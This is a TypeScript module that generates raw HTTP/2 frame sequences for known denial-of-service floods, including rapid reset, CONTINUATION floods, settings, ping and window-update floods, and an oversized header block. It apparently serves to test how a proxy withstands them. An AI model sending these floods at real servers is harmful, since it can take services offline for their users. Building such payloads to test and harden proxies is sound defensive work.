/** Floods of HTTP/2: what costs a proxy work or memory, and a client next to nothing. */
import { FLAG, FRAME, fieldsOf, frame, packed } from "./rawHttp2.ts";

export interface Flood {
  readonly name: string;
  /** What a client sends at once, on a connection of its own. */
  readonly frames: readonly Buffer[];
  /** Of the client, pairs of identifier and value. */
  readonly settings?: readonly (readonly [number, number])[];
}

/** So many requests whose answers have nowhere to go: as many as a connection may have at a time. */
const STALLED = 100;
/** Pieces of 1 KB of a head that no proxy takes. */
const LARGE_HEAD = 100;

/** Each of about `size` frames, for a host that is served. */
export function floodsOf(host: string, size: number): readonly Flood[] {
  const fields = fieldsOf(host, "/x");
  const request = (stream: number): Buffer =>
    frame(FRAME.headers, { flags: FLAG.endHeaders | FLAG.endStream, stream, payload: packed(fields) });
  const reset = (stream: number): Buffer => frame(FRAME.reset, { stream, payload: Buffer.from([0, 0, 0, 8]) });
  const streams = Array.from({ length: size }, (_, index) => 2 * index + 1);
  const open = frame(FRAME.headers, { flags: FLAG.endStream, stream: 1, payload: packed(fields) });
  const post = frame(FRAME.headers, {
    flags: FLAG.endHeaders,
    stream: 1,
    payload: packed(fieldsOf(host, "/x", "POST")),
  });
  const piece = packed([["x-filling", "x".repeat(1_000)]]);
  return [
    { name: "rapid reset", frames: streams.flatMap((stream) => [request(stream), reset(stream)]) },
    {
      name: "continuations without an end",
      frames: [open, ...streams.map(() => frame(FRAME.continuation, { stream: 1, payload: piece }))],
    },
    {
      name: "empty continuations",
      frames: [open, ...streams.map(() => frame(FRAME.continuation, { stream: 1 }))],
    },
    {
      name: "settings",
      frames: streams.map(() => frame(FRAME.settings, { payload: Buffer.from([0, 4, 0, 0, 255, 255]) })),
    },
    { name: "pings", frames: streams.map(() => frame(FRAME.ping, { payload: Buffer.alloc(8) })) },
    { name: "empty data", frames: [post, ...streams.map(() => frame(FRAME.data, { stream: 1 }))] },
    {
      name: "window updates",
      frames: [post, ...streams.map(() => frame(FRAME.windowUpdate, { payload: Buffer.from([0, 0, 0, 1]) }))],
    },
    { name: "answers into a window of nothing", frames: streams.slice(0, STALLED).map(request), settings: [[4, 0]] },
    {
      name: "a large head",
      frames: [
        open,
        ...Array.from({ length: LARGE_HEAD }, () => frame(FRAME.continuation, { stream: 1, payload: piece })),
        frame(FRAME.continuation, { flags: FLAG.endHeaders, stream: 1 }),
      ],
    },
  ];
}
